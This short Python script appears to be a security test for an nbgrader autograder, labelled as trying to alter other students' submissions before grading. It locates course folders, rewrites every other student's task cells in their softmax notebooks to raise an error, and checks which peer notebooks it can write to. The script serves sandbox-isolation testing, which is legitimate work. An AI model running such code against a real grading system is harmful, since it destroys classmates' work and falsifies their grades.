# tries: changes what other students handed in, before it is graded
# base: stub
# may score: 0
# %% first
import os, sys


def course_roots():
    """Folders with an nbgrader_config.py at or above likely places."""
    named = [v for k, v in os.environ.items() if k in ("PWD", "OLDPWD") or k.startswith(("NBGRADER", "AUTOGRADER", "FLATGRAD"))]
    found = []
    for seed in [os.getcwd(), *named, *sys.path]:
        here = os.path.realpath(seed or ".")
        while here != os.path.dirname(here):
            if here not in found and os.path.isfile(os.path.join(here, "nbgrader_config.py")):
                found.append(here)
            here = os.path.dirname(here)
    return found

import glob, json

for root in course_roots():
    for path in glob.glob(os.path.join(root, "submitted", "*", "softmax", "softmax.ipynb")):
        if "mallory" in path:
            continue
        try:
            notebook = json.load(open(path, encoding="utf-8"))
            for cell in notebook["cells"]:
                if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("task-"):
                    cell["source"] = "raise NotImplementedError('mallory was here')"
            with open(path, "w", encoding="utf-8") as file:
                json.dump(notebook, file)
            print("BREACH changed", path)
        except (OSError, ValueError) as error:
            print(path, error)
for path in glob.glob("../../*/softmax/softmax.ipynb") + glob.glob("../*/*.ipynb"):
    if any(os.path.abspath(path).startswith(root) for root in course_roots()):
        try:
            open(path, "r+").close()
            print("BREACH can be written:", path)
        except OSError as error:
            print(path, error)
